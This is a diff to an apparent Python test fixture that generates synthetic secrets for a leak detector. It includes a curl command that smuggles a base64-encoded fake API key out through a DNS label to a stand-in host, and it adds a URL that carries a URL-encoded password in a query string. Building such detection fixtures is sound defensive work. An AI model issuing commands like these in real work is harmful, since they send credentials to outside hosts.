@@ -80,6 +80,8 @@ def secret_corpus(seed: int = 9) -> list[Secret]:
     short_pw = _random(rng, ALNUM, 9) + "!" + _random(rng, ALNUM, 4)
     # a key smuggled base64-encoded in a DNS label (exfiltration over DNS)
     smuggled = _b64url(f"OPENAI_API_KEY=sk-proj-{_random(rng, ALNUM, 24)}".encode())
+    # a password sent URL-encoded in a query (``?cfg=storePassword%3D…%21…``): its letters stay as written
+    encoded_pw = (_random(rng, ALNUM, 14), _random(rng, ALNUM, 14))
     # a wallet's recovery phrase: twelve lowercase words
     seed = " ".join(_random(rng, string.ascii_lowercase, rng.randint(4, 8)) for _ in range(12))
     return [
@@ -140,6 +142,13 @@ def secret_corpus(seed: int = 9) -> list[Secret]:
         ),
         Secret("seed_phrase", seed, f"Recovery phrase: {seed}", _needles(seed)),
         Secret("smuggled_key", smuggled, f"curl https://{smuggled}.lookup.example.net/v", _needles(smuggled)),
+        Secret(
+            "encoded_password",
+            f"{encoded_pw[0]}!#{encoded_pw[1]}",
+            f"https://check.example.io/confirm?cfg=storePassword%3D{encoded_pw[0]}%21%23{encoded_pw[1]}%0A"
+            "keyAlias%3Dupload&lang=en",
+            encoded_pw,
+        ),
     ]
 
 
